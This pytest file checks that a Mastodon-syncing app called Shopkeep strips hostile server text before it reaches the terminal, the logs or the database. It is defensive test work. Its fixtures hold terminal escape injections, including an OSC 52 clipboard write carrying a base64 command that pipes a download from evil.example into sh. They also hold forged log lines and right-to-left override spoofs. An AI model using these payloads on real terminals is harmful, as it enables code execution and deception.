"""Words a server or a customer controls never drive the owner's terminal, forge a line,
flip a line's direction, or carry the shop's own token into the database.

A hostile Mastodon server answers the sync with an error body full of terminal
escapes (retitle the window, clear the screen, write the clipboard with OSC 52),
a forged "OK" line, 300 KB of padding, and the access token Shopkeep sent it.
The owner runs `shopkeep sync` from a terminal (a real process, the real
keychain), looks at the account in the window, and the next daily backup runs.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from app.core.clean_text import MAX_LINE, clean_block, clean_error, clean_line, for_log
from app.core.connections import key_for
from app.core.errors import BadResponse, ShopkeepError
from app.core.ports import ThreadQuery
from app.net.mastodon_parse import parse_status
from tests.mastodon_server import MastodonServer
from tests.sync_support import mastodon_account, score

ROOT = Path(__file__).resolve().parent.parent
NOTIFICATIONS = "/api/v1/notifications"
# What a terminal obeys: ESC and BEL, the 8-bit CSI/OSC/ST, and the bidi overrides.
TERMINAL_CONTROLS = ("\x1b", "\x07", "\x9b", "\x9d", "\x9c", "\u202e", "\u202d", "\u2066")


def hostile_error(token: str) -> str:
    return (
        "\x1b]0;Shopkeep: all good\x07"  # sets the terminal title
        "\x1b[2J\x1b[H"  # clears the screen
        "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes the clipboard
        f"invalid token {token}"
        "\nshop@town.example: OK, 99 new posts, 0 new conversations."  # a forged line
        "\u202egnp.eciovni" + "x" * 300_000
    )


def run_sync(data_dir: Path, service: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "SHOPKEEP_KEYCHAIN_SERVICE": service}
    env.pop("SHOPKEEP_DATA_DIR", None)
    return subprocess.run(
        [sys.executable, "-m", "app", "sync", "--data-dir", str(data_dir)],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=90,
        stdin=subprocess.DEVNULL,
    )


def test_a_hostile_error_body_reaches_the_terminal_and_the_database_clean(
    store: Any, keychain: Any, mastodon_server: MastodonServer, tmp_path: Path
) -> None:
    data_dir = tmp_path / "data"
    shop = mastodon_account(store, mastodon_server)
    keychain.save(key_for(shop), {"access_token": mastodon_server.token})
    store.close()
    mastodon_server.respond_next(
        NOTIFICATIONS, 422, {"error": hostile_error(mastodon_server.token)}, times=10
    )

    result = run_sync(data_dir, keychain.service)

    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert not [c for c in TERMINAL_CONTROLS if c in output]
    assert mastodon_server.token not in output
    assert "invalid token [redacted]" in result.stdout
    lines = result.stdout.splitlines()
    assert [line for line in lines if line.startswith("shop@town.example")] == []  # no forgery
    assert len([line for line in lines if "FAILED" in line]) == 1
    assert len(output) < 4 * MAX_LINE  # not 300 KB on the owner's screen

    from app.storage.inbox_store import SqliteInboxStore

    reopened = SqliteInboxStore.open(data_dir / "shopkeep.sqlite3")
    try:
        stored = reopened.account(shop.id).last_error
        assert "The server refused the request" in stored
        assert len(stored) <= MAX_LINE
        assert not [c for c in TERMINAL_CONTROLS if c in stored]
        assert "\n" not in stored
        backup = reopened.backup_now(data_dir / "backups")
    finally:
        reopened.close()
    token = mastodon_server.token.encode()
    leaks = [p.name for p in data_dir.rglob("*") if p.is_file() and token in p.read_bytes()]
    assert leaks == [], "the token was kept in a file"
    assert backup.is_file()


def test_a_right_to_left_override_in_a_handle_is_neutralised_before_it_is_stored(
    store: Any,
) -> None:
    shop = store.add_account(_shop_info())
    status = {
        "id": "71",
        "created_at": "2024-05-01T09:00:00Z",
        "content": "<p>@shop hello</p>",
        "account": {
            "id": "9",
            "acct": "ann\u202eexe.gnp@town.example",
            "display_name": "Ann\u202e\x1b]0;owned\x07 Smith",
        },
        "visibility": "public",
    }
    post = parse_status(status, is_mention=True)
    store.ingest(shop.id, [post], score)
    thread = store.list_threads(ThreadQuery(account_id=shop.id), 0, 10)[0]
    author = store.thread_posts(thread.id)[0].post.author
    assert author.handle == "@annexe.gnp@town.example"
    assert author.display_name == "Ann Smith"
    assert "\u202e" not in thread.author_handle + thread.author_name


def _shop_info() -> Any:
    from app.core.models import AccountInfo, Network

    return AccountInfo(Network.MASTODON, "https://town.example", "@shop", "1")


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b]0;title\x07hello", "hello"),
        ("\x1b[31mred\x1b[0m", "red"),
        ("a\nb\r\nc", "a b c"),
        ("\x9b2Jcleared", "cleared"),
        ("\x1bPdevice control\x1b\\after", "after"),
        ("file\u202egnp.exe", "filegnp.exe"),
        ("tab\tand\x00nul", "tab and nul"),
        ("Café ☕ 👩‍🍳", "Café ☕ 👩‍🍳"),  # real text, emoji joiners included, is untouched
    ],
)
def test_one_line_of_server_text_is_cleaned(raw: str, shown: str) -> None:
    assert clean_line(raw) == shown


def test_a_long_server_sentence_is_cut_with_a_mark() -> None:
    cut = clean_line("y" * 300_000)
    assert len(cut) == MAX_LINE and cut.endswith("…")


def test_a_post_keeps_its_lines_but_loses_escapes_and_overrides() -> None:
    assert (
        clean_block("Hi!\r\n\x1b[2JWhere is\u2028my \u202ecake?\n\tThanks")
        == "Hi!\nWhere is\nmy cake?\n\tThanks"
    )


def test_a_log_message_cannot_start_a_forged_entry() -> None:
    forged = for_log("refused: x\n2026-12-05 09:00:00 INFO  app sync ok\x1b[2J")
    assert forged.splitlines()[1].startswith("    ")
    assert "\x1b" not in forged


def test_an_echoed_credential_is_hidden_once_it_has_been_sent(
    mastodon_server: MastodonServer,
) -> None:
    from app.net.mastodon import MastodonClient

    secret = "echo-me-" + "q" * 30
    # twice: a 400 to the first ask (with quotes) is retried once asking for mentions only
    mastodon_server.respond_next(
        NOTIFICATIONS, 400, {"error": f"bad request for {secret}"}, times=2
    )
    client = MastodonClient(mastodon_server.url, secret, page_pause=0.0, timeout=(1.0, 2.0))
    with pytest.raises(BadResponse) as caught:
        client.mentions(None)
    client.close()
    assert secret not in caught.value.user_message + str(caught.value)
    assert secret not in clean_error(f"kept: {secret}")


def test_a_logged_server_string_is_cleaned_before_any_handler_sees_it(
    mastodon_server: MastodonServer,
) -> None:
    """The log file and the terminal (warnings go to stderr) get the same clean record."""
    import logging

    from app.core.log_redaction import install_log_redaction
    from app.net.mastodon import MastodonClient

    install_log_redaction()  # as app.main.configure_logging does first thing

    records: list[logging.LogRecord] = []

    class Keep(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            records.append(record)

    secret = "logged-token-" + "z" * 30
    client = MastodonClient(mastodon_server.url, secret, page_pause=0.0, timeout=(1.0, 2.0))
    with pytest.raises(ShopkeepError):
        client.verify()  # sent once: the token is now one the app has handled
    client.close()
    keep = Keep()
    logger = logging.getLogger("app.core.sync")
    logger.addHandler(keep)
    try:
        logger.warning("server said: %s", f"\x1b]0;owned\x07bad {secret}\n2026 INFO forged")
    finally:
        logger.removeHandler(keep)
    message = records[-1].getMessage()
    assert "\x1b" not in message and "\x07" not in message
    assert "\n    2026 INFO forged" in message  # indented: not a line of its own
    assert secret not in message


def test_a_reply_refused_with_a_hostile_error_keeps_a_clean_short_reason(
    store: Any, shop_account: Any, make_post: Any, keyword_score: Any
) -> None:
    """The Outbox shows why a reply failed: the server's words, never its escapes."""
    store.ingest(shop_account.id, [make_post("p1", "where is my cake?")], keyword_score)
    thread = store.list_threads(ThreadQuery(account_id=shop_account.id), 0, 1)[0]
    item = store.enqueue_reply(thread.id, "p1", "On its way!", "key-1")
    store.mark_sending(item.id)
    failed = store.mark_failed(item.id, "\x1b]0;x\x07<b>refused</b>\u202e" + "!" * 100_000)
    assert failed.last_error.startswith("<b>refused</b>")
    assert len(failed.last_error) <= MAX_LINE
    assert not [c for c in TERMINAL_CONTROLS if c in failed.last_error]
